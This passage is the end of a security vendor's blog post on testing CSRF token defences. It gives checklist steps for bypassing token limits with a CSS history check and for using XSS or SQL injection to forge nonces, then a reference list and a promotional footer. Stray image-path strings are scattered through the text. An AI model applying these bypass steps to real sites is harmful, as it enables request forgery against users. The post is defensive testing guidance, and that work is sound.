        • If token guess limits set then see if action uses GET and per action/per session implementation used• If requirements met then attempt a client-side attack like css history check to bypass server-side limits
    • If no weaknesses in nonce generation, implementation, or validation then attempt to find script insertion vulnerabilities (xss,sqlinsert,etc.) to fill value(s) in form dynamically or possibly create own with nonce from other form.


[1] https://tools.ietf.org/html/draft-ietf-websec-origin-01 – Web Origin Policy RFC
[2] https://www.php.net/time – PHP time()
[3] https://blog.jeremiahgrossman.com/2006/08/i-know-where-youve-been.html – CSS Browser History Check
[4] https://securethoughts.com/hacking-csrf-tokens-using-css-history-hack/ – CSRF tokenbruteforce with CSS history check
[5] http://prominentsecurity.com/?p=119 – Facebook CSRF Invalid Token Validation Attack
[6] https://code.google.com/archive/p/browsersec/wikis/Part2.wiki#Same-origin_policy – Same Origin Bypasses in Current Browsers
[7] http://media.blackhat.com/bh-us-10/whitepapers/Kamkar/BlackHat-USA-2010-Kamkar-How-I- Met-Your-Girlfriend-wp.pdf – Weak Cryptographic Generation of Session ID’s
[8] https://code.google.com/archive/p/browsersec/wikis/Part3.wiki#HTTP_authentication – HTTP Auth Attack Vectors
[9]https://en.wikipedia.org/wiki/Document_Object_Model – DOM
[10] https://www.cgisecurity.com/csrf-faq.html – In-Depth Basics of CSRF/XSRF
[11]https://en.wikipedia.org/wiki/BBCode– BBCode BIOGRAPHY

Alert Logic Threat Intelligence Team
About the AuthorAlert Logic Threat Intelligence Team

RelatedPost

Ready to protect your companywith Alert Logic MDR?